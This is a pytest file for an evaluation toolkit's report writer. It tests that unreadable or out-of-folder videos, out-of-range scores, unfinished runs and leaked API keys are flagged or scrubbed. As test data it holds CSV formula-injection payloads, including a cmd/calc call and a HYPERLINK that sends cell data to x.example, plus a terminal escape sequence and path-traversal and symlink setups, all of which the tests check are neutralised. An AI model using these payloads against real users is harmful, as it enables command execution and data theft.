"""What a report must not take at face value: unreadable videos, videos outside their run folder, hand-edited scores
outside a scorer's declared range, unfinished generations, secrets in old score files, and text that a spreadsheet
would run as a formula. Each experiment is real: baselines generated in-process, scored by the real scorers."""

from __future__ import annotations

import csv
import json
import math
import os
import shutil
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from vmevalkit.cli.main import report_main
from vmevalkit.runner.inference import InferenceRunner
from vmevalkit.scoring import report
from vmevalkit.scoring.base import ScoreBatch
from vmevalkit.scoring.csv_safe import neutralise
from vmevalkit.scoring.frame_match import FrameMatch
from vmevalkit.scoring.meta_eval import DETAIL_COLUMNS, SUMMARY_COLUMNS, write_outputs
from vmevalkit.scoring.report import ReportConfig
from vmevalkit.scoring.runner import ScoringRunner, find_generations
from vmevalkit.scoring.verifiers import TaskVerifier
from vmevalkit.tasks.loader import load_tasks

MODELS = ["oracle-solution", "static-first-frame"]
SECRET = "sk-live-report-4b1f9e2c7d3a8b6e"


@pytest.fixture
def experiment(questions: Path, tmp_path: Path) -> Path:
    tasks = load_tasks(questions, task_ids=["maze_0001", "sudoku_0001"]).tasks
    runner = InferenceRunner(output_dir=tmp_path / "outputs", experiment="exp", duration=1.0)
    assert runner.run(MODELS, tasks).completed == 4
    return runner.experiment_dir


def run_dir(experiment: Path, model: str, task_id: str) -> Path:
    (found,) = (experiment / model).glob(f"*_task/{task_id}/*/metadata.json")
    return found.parent


def video_of(experiment: Path, model: str, task_id: str) -> Path:
    folder = run_dir(experiment, model, task_id)
    return folder / json.loads((folder / "metadata.json").read_text())["video"]


def edit_json(path: Path, **changes: Any) -> None:
    data = json.loads(path.read_text())
    data.update(changes)
    path.write_text(json.dumps(data))


def score(experiment: Path, *scorers: Any) -> None:
    for scorer in scorers or (TaskVerifier(),):
        ScoringRunner(scorer).run(find_generations(experiment))


def write(experiment: Path, out: Path, **config: Any) -> report.ReportResult:
    return report.write_report(experiment, out, ReportConfig(resamples=200, **config))


def summary_rows(out: Path) -> dict[tuple[str, str, str], dict[str, str]]:
    with open(out / "metrics_summary.csv", newline="", encoding="utf-8") as fh:
        return {(r["scorer"], r["dimension"], r["model"]): r for r in csv.DictReader(fh)}


def strict_json(path: Path) -> Any:
    def refuse(token: str) -> Any:
        raise AssertionError(f"{path.name} holds the non-JSON token {token}")

    return json.loads(path.read_text(encoding="utf-8"), parse_constant=refuse)


# -- item 7: unreadable videos are failures, and counted ---------------------------------------------------------------


@pytest.mark.parametrize("how", ["garbage", "truncated", "empty"])
def test_an_unreadable_video_counts_as_a_failure_and_the_report_says_how_many(
    experiment: Path, tmp_path: Path, how: str
) -> None:
    video = video_of(experiment, "oracle-solution", "maze_0001")
    data = video.read_bytes()
    video.write_bytes({"garbage": b"\x00\x01junk" * 500, "truncated": data[: len(data) // 3], "empty": b""}[how])
    score(experiment, TaskVerifier(), FrameMatch())
    result = write(experiment, tmp_path / "r")
    rows = summary_rows(tmp_path / "r")
    success = rows[("task-verifier", "task_success", "oracle-solution")]
    assert (success["n_scored"], success["n_failed"], success["n_unscorable"]) == ("1", "1", "0")
    assert success["n_unreadable"] == "1" and float(success["mean"]) == 0.5 and float(success["success_rate"]) == 0.5
    psnr = rows[("frame-match", "final_psnr", "oracle-solution")]
    assert (psnr["n_failed"], psnr["n_unreadable"], psnr["n_unscorable"]) == ("1", "1", "0")
    assert rows[("task-verifier", "task_success", "static-first-frame")]["n_unreadable"] == "0"
    assert any("cannot be used" in w and "oracle-solution/maze_task/maze_0001" in w for w in result.warnings)
    metrics = strict_json(tmp_path / "r" / "metrics.json")
    flagged = {f["generation"].split("/")[0] for f in metrics["flags"]["unreadable_videos"]}
    assert flagged == {"oracle-solution"}
    page = (tmp_path / "r" / "report.html").read_text(encoding="utf-8")
    assert page.count('<a class="clip"') == 3 and "video not shown" in page
    # No NaN anywhere: the maze group of the oracle has no PSNR at all (an empty cell, a null).
    detail = [r for r in metrics["detail"] if r["model"] == "oracle-solution" and r["domain"] == "maze"]
    assert any(r["dimension"] == "final_psnr" and r["mean"] is None for r in detail)
    for name in ("metrics_summary.csv", "metrics_detail.csv"):
        text = (tmp_path / "r" / name).read_text()
        assert not {"nan", "inf", "NaN", "Infinity"} & set(text.replace("\n", ",").split(","))


def test_a_score_file_that_left_an_unreadable_video_unscored_still_counts_it_as_a_failure(
    experiment: Path, tmp_path: Path
) -> None:
    score(experiment)
    folder = run_dir(experiment, "oracle-solution", "sudoku_0001")
    video_of(experiment, "oracle-solution", "sudoku_0001").write_bytes(b"not a video at all" * 100)
    # What scoring used to write for such a video: no error, every dimension null, a reason.
    edit_json(
        folder / "scores" / "task-verifier.json",
        dimensions={"task_success": None, "end_state": None, "process": None},
        details={"reason": "cannot decode the video"},
    )
    write(experiment, tmp_path / "r")
    row = summary_rows(tmp_path / "r")[("task-verifier", "process", "oracle-solution")]
    assert (row["n_failed"], row["n_unreadable"], row["n_unscorable"], float(row["mean"])) == ("1", "1", "0", 0.5)


# -- item 4: a video path outside the run folder ---------------------------------------------------------------------


@pytest.mark.parametrize("how", ["dotdot", "absolute", "symlink"])
def test_a_video_outside_its_run_folder_is_a_failure_and_is_never_embedded(
    experiment: Path, tmp_path: Path, how: str
) -> None:
    score(experiment)
    cheat = run_dir(experiment, "static-first-frame", "maze_0001")
    honest = run_dir(experiment, "oracle-solution", "maze_0001")
    target = video_of(experiment, "oracle-solution", "maze_0001").resolve()
    if how == "symlink":
        own = video_of(experiment, "static-first-frame", "maze_0001")
        own.unlink()
        own.symlink_to(target)
    else:
        edit_json(cheat / "metadata.json", video=os.path.relpath(target, cheat) if how == "dotdot" else str(target))
    # As if it had been scored from that file: the oracle's passing score file.
    shutil.copy(honest / "scores" / "task-verifier.json", cheat / "scores" / "task-verifier.json")
    result = write(experiment, tmp_path / "r", embed_videos=True)
    row = summary_rows(tmp_path / "r")[("task-verifier", "task_success", "static-first-frame")]
    assert (row["n_scored"], row["n_failed"], row["n_unreadable"]) == ("1", "1", "1")
    assert float(row["success_rate"]) == 0.0 and float(row["mean"]) == 0.0
    assert any("outside the run folder" in w for w in result.warnings)
    page = (tmp_path / "r" / "report.html").read_text(encoding="utf-8")
    assert page.count("data:video/mp4;base64,") == 3, "only the three videos inside their own run folders"
    assert "outside the run folder" in page
    assert str(tmp_path) not in (tmp_path / "r" / "metrics.json").read_text(), "no machine path in metrics.json"


# -- item 15: declared ranges ---------------------------------------------------------------------------------------


def test_a_score_outside_the_declared_range_is_flagged_not_averaged(experiment: Path, tmp_path: Path) -> None:
    score(experiment)
    path = run_dir(experiment, "static-first-frame", "sudoku_0001") / "scores" / "task-verifier.json"
    data = json.loads(path.read_text())
    data["dimensions"]["process"] = 7.5  # hand-edited; the file's own declared range is edited away too
    data.pop("ranges", None)
    path.write_text(json.dumps(data))
    result = write(experiment, tmp_path / "r")
    row = summary_rows(tmp_path / "r")[("task-verifier", "process", "static-first-frame")]
    assert (row["n_scored"], row["n_failed"], row["n_out_of_range"]) == ("1", "1", "1")
    assert float(row["mean"]) == 0.5, "the 7.5 is a failure (0 on a [0, 1] dimension), not averaged in"
    assert row["failures_as_zero"] == "true"
    (warning,) = [w for w in result.warnings if "declared range" in w]
    assert "7.5" in warning and "static-first-frame/sudoku_task/sudoku_0001" in warning and "process" in warning
    metrics = strict_json(tmp_path / "r" / "metrics.json")
    (flag,) = metrics["flags"]["out_of_range"]
    assert (flag["scorer"], flag["dimension"], flag["value"], flag["range"]) == (
        "task-verifier",
        "process",
        7.5,
        [0, 1],
    )
    assert metrics["scorers"]["task-verifier"]["ranges"]["process"] == [0.0, 1.0]
    assert "outside the declared range" in (tmp_path / "r" / "report.html").read_text(encoding="utf-8")


class Gauge:
    """A plug-in (not in the catalog) that declares its own range: the report finds it in the score files."""

    name = "gauge"
    dimensions = ("level", "free")
    ranges = {"level": (0.0, 10.0)}

    def score_batch(self, items: list[Any]) -> ScoreBatch:
        return ScoreBatch(np.array([[4.0, 100.0] for _ in items]))


def test_a_plugins_declared_range_is_read_from_its_score_files(experiment: Path, tmp_path: Path) -> None:
    score(experiment, Gauge())
    for model, task_id, level in (("oracle-solution", "maze_0001", -3.0), ("static-first-frame", "maze_0001", 11.0)):
        path = run_dir(experiment, model, task_id) / "scores" / "gauge.json"
        data = json.loads(path.read_text())
        data["dimensions"]["level"] = level
        data["dimensions"]["free"] = -1e6  # no declared range: anything goes
        path.write_text(json.dumps(data))
    write(experiment, tmp_path / "r")
    rows = summary_rows(tmp_path / "r")
    for model in MODELS:
        level = rows[("gauge", "level", model)]
        assert (level["n_scored"], level["n_out_of_range"], float(level["mean"])) == ("1", "1", 4.0)
        free = rows[("gauge", "free", model)]
        assert (free["n_scored"], free["n_out_of_range"]) == ("2", "0")


# -- item 15: unfinished generations ----------------------------------------------------------------------------------


def test_unfinished_generations_are_flagged(
    experiment: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    score(experiment)
    done = run_dir(experiment, "static-first-frame", "maze_0001")
    killed = done.parent / "s7-0000000000"
    shutil.copytree(done, killed, ignore=shutil.ignore_patterns("scores", "video"))
    edit_json(killed / "metadata.json", status="running", run_id="s7-0000000000", video=None, seed=7)
    result = write(experiment, tmp_path / "r")
    row = summary_rows(tmp_path / "r")[("task-verifier", "task_success", "static-first-frame")]
    assert (row["n_failed"], row["n_unfinished"], row["n_generations"]) == ("1", "1", "3")
    (warning,) = [w for w in result.warnings if "never finished" in w]
    assert "running" in warning and "static-first-frame/maze_task/maze_0001/s7-0000000000" in warning
    metrics = strict_json(tmp_path / "r" / "metrics.json")
    assert metrics["flags"]["unfinished"] == [
        {"generation": "static-first-frame/maze_task/maze_0001/s7-0000000000", "model": "static-first-frame"}
    ]
    assert metrics["generations"]["static-first-frame"]["unfinished"] == 1
    page = (tmp_path / "r" / "report.html").read_text(encoding="utf-8")
    assert '<section id="flags"' in page and "never finished" in page
    # The command line prints it, with any control characters from the data escaped.
    edit_json(killed / "metadata.json", task_id="maze_0001\x1b]52;c;ZXZpbA==\x07")
    code = report_main(["--output-dir", str(experiment.parent), "--experiment", "exp", "--out", str(tmp_path / "c")])
    err = capsys.readouterr().err
    assert code == 0 and "never finished" in err and "\x1b" not in err and "\\x1b" in err


# -- item 3: secrets in score files written before scrubbing ----------------------------------------------------------


def test_a_secret_in_an_old_score_file_does_not_reach_the_report(
    experiment: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    score(experiment)
    scores = run_dir(experiment, "oracle-solution", "maze_0001") / "scores" / "task-verifier.json"
    edit_json(scores, details={"reason": f"judged with {SECRET}"})
    failed = run_dir(experiment, "static-first-frame", "maze_0001") / "scores" / "task-verifier.json"
    edit_json(failed, error=f"HTTP 401: bad key {SECRET}", dimensions=dict.fromkeys(["task_success", "end_state"]))
    code = report_main(["--output-dir", str(experiment.parent), "--experiment", "exp", "--out", str(tmp_path / "r")])
    out, err = capsys.readouterr()
    assert code == 0
    page = (tmp_path / "r" / "report.html").read_text(encoding="utf-8")
    assert "judged with ***" in page and "bad key ***" in page
    for path in (tmp_path / "r").iterdir():
        assert SECRET.encode() not in path.read_bytes(), path.name
    assert SECRET not in out + err


# -- item 15: CSV cells a spreadsheet would run ------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)"]
WHITESPACE = ["\t=1+1", "\r=1+1", " =1+1", "\n=1+1"]


def test_report_csvs_neutralise_formulas_but_keep_numbers(experiment: Path, tmp_path: Path) -> None:
    folders = sorted(p.parent for p in experiment.glob("*/*_task/*/*/metadata.json"))
    for index, folder in enumerate(folders):
        edit_json(folder / "metadata.json", note=FORMULAS[index], hidden=WHITESPACE[index], offset=-1.5 * index - 1)
    edit_json(folders[0] / "metadata.json", model="@evil(1)")
    score(experiment)
    write(experiment, tmp_path / "r", group_by=["note", "hidden", "offset"])
    with open(tmp_path / "r" / "metrics_detail.csv", newline="", encoding="utf-8") as fh:
        detail = list(csv.DictReader(fh))
    notes = {r["note"] for r in detail if r["grouping"] == "note"}
    assert notes == {"'" + f for f in FORMULAS}
    hidden = {r["hidden"] for r in detail if r["grouping"] == "hidden"}
    assert hidden == {"'" + w for w in WHITESPACE}
    offsets = {r["offset"] for r in detail if r["grouping"] == "offset"}
    assert offsets == {"-1.0", "-2.5", "-4.0", "-5.5"}, "negative numbers stay numbers"
    for r in detail:
        for column in ("mean", "ci_low", "ci_high"):
            assert r[column] == "" or math.isfinite(float(r[column]))
    with open(tmp_path / "r" / "metrics_summary.csv", newline="", encoding="utf-8") as fh:
        models = {r["model"] for r in csv.DictReader(fh)}
    assert "'@evil(1)" in models and "oracle-solution" in models
    # metrics.json keeps the data as it is: it is not a spreadsheet.
    metrics = strict_json(tmp_path / "r" / "metrics.json")
    assert {r["note"] for r in metrics["detail"] if r["grouping"] == "note"} == set(FORMULAS)


def test_meta_evaluation_csvs_neutralise_formulas_but_keep_numbers(tmp_path: Path) -> None:
    summary: dict[str, Any] = dict.fromkeys(SUMMARY_COLUMNS, 0.25)
    summary.update(scorer="task-verifier", dimension="process", human_dimension="=1+1", n=3, spearman=-0.5)
    summary["kendall_tau_b"] = math.nan
    detail = {**summary, "domain": "@maze", "human_dimension": "-x"}
    write_outputs(tmp_path, {}, {}, [summary], [{c: detail[c] for c in DETAIL_COLUMNS}])
    with open(tmp_path / "meta_summary.csv", newline="", encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["human_dimension"] == "'=1+1" and row["spearman"] == "-0.5" and row["n"] == "3"
    assert row["kendall_tau_b"] == "" and row["scorer"] == "task-verifier"
    with open(tmp_path / "meta_detail.csv", newline="", encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["domain"] == "'@maze" and row["human_dimension"] == "'-x" and row["spearman"] == "-0.5"
    meta = strict_json(tmp_path / "meta.json")
    assert meta["summary"][0]["kendall_tau_b"] is None and meta["summary"][0]["human_dimension"] == "=1+1"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-A1", "'-A1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-1", "-1"),
        ("+2.5", "+2.5"),
        ("-3e-4", "-3e-4"),
        ("maze", "maze"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(text: str, expected: str) -> None:
    assert neutralise(text) == expected
